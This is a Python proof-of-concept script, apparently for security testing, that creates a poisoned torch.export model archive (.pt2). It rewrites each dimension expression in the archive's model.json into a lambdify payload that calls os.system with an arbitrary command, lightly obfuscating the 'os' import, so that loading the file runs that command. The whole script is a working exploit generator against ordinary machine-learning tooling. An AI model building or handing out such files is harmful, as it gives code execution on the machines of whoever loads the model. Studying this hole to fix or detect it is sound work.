"""A program of torch.export that runs a command when it is loaded: FOLDER COMMAND.

Two attack vectors: an expression of a dimension, which the loader evaluates, and a pickled constant.
"""

import json
import sys
import zipfile
from pathlib import Path

import torch

folder, command = Path(sys.argv[1]), sys.argv[2]
batch = torch.export.Dim("batch", min=1, max=64)
program = torch.export.export(torch.nn.Linear(3, 1), (torch.ones(2, 3),), dynamic_shapes=({0: batch},))
folder.mkdir(parents=True, exist_ok=True)
torch.export.save(program, folder / "good.pt2")
expression = f"lambdify((), {json.dumps('__import__(chr(111)+chr(115)).system(' + repr(command) + ')')}, 'math')()"
changed = 0


def poison(value: object) -> object:
    global changed
    if isinstance(value, dict):
        if "expr_str" in value:
            changed += 1
            return {**value, "expr_str": expression, "hint": None}
        return {key: poison(each) for key, each in value.items()}
    return [poison(each) for each in value] if isinstance(value, list) else value


with zipfile.ZipFile(folder / "good.pt2") as source, zipfile.ZipFile(folder / "model.pt2", "w") as target:
    for entry in source.infolist():
        data = source.read(entry)
        if entry.filename.endswith("models/model.json"):
            data = json.dumps(poison(json.loads(data))).encode()
        target.writestr(entry.filename, data)
(folder / "good.pt2").unlink()
assert changed, "no expression in the program: the test needs another way in"
